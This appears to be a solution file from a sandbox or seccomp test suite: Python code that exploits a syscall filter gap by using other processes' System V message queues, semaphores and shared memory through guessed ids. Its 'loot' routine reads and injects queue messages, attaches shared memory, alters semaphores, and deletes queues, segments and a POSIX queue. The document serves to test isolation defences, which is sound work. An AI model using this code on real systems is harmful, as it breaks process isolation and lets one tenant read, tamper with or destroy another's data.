"""Uses queues, semaphores and shared memory of others by their ids, which are small numbers, without asking for them.

Elsewhere: a filter on the calls that make them forgets the calls that use them.
"""

# %% solution="value"
import ctypes

import known
from toolbox import each, number, reached, syscall, tell, won

IPC_RMID, IPC_STAT, IPC_NOWAIT = 0, 2, 0o4000


def stat_segment():
    return syscall(number(31, 195), known.SEGMENT, IPC_STAT, ctypes.create_string_buffer(256))


def attach_segment():
    return syscall(number(30, 196), known.SEGMENT, 0, 0)


def send():
    return syscall(number(69, 189), known.QUEUE, b"\1\0\0\0\0\0\0\0attacked", 8, IPC_NOWAIT)


def receive():
    buffer = ctypes.create_string_buffer(256)
    syscall(number(70, 188), known.QUEUE, buffer, 200, 0, IPC_NOWAIT)
    return buffer.raw[8:64]


def semaphore():
    return syscall(number(65, 193), known.SEMAPHORE, b"\0\0\1\0\0\0", 1)


def set_semaphore():
    return syscall(number(66, 191), known.SEMAPHORE, 0, 16, 7)


def remove_queue():
    return syscall(number(71, 187), known.QUEUE, IPC_RMID, 0)


def remove_segment():
    return syscall(number(31, 195), known.SEGMENT, IPC_RMID, 0)


def unlink_posix_queue():
    return syscall(number(241, 181), known.MARK.encode())


def attempt(way):
    return won(way())


def loot():
    reached()
    ways = [stat_segment, attach_segment, send, receive, semaphore, set_semaphore, unlink_posix_queue]
    return each(attempt, [*ways, remove_queue, remove_segment])


def attribute(prompt, x):
    return tell(loot)
